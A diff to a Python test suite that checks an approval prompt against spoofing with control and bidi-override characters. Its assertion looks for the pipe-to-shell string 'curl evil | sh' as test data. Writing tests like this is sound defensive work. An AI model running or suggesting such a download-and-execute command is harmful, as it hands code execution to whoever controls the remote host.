@@ -132,9 +132,8 @@ def test_server_trust_question_shows_control_characters(name: str, ws: Path) -> 
     shown = format_request(ApprovalRequest("folder", "", detail=detail, workspace=str(ws)))
     assert "curl evil | sh" in shown
     for ch in shown:
-        assert ch in "\n\t" or (ord(ch) >= 0x20 and not 0x7F <= ord(ch) <= 0x9F and ch not in "\u202e\u202d"), (
+        assert ch in "\n\t" or (ord(ch) >= 0x20 and not 0x7F <= ord(ch) <= 0x9F and ch not in "\u202e\u202d"), \
             f"control character {ch!r} reached the question"
-        )
 
 
 @pytest.mark.parametrize("name", sorted(SPOOFS))
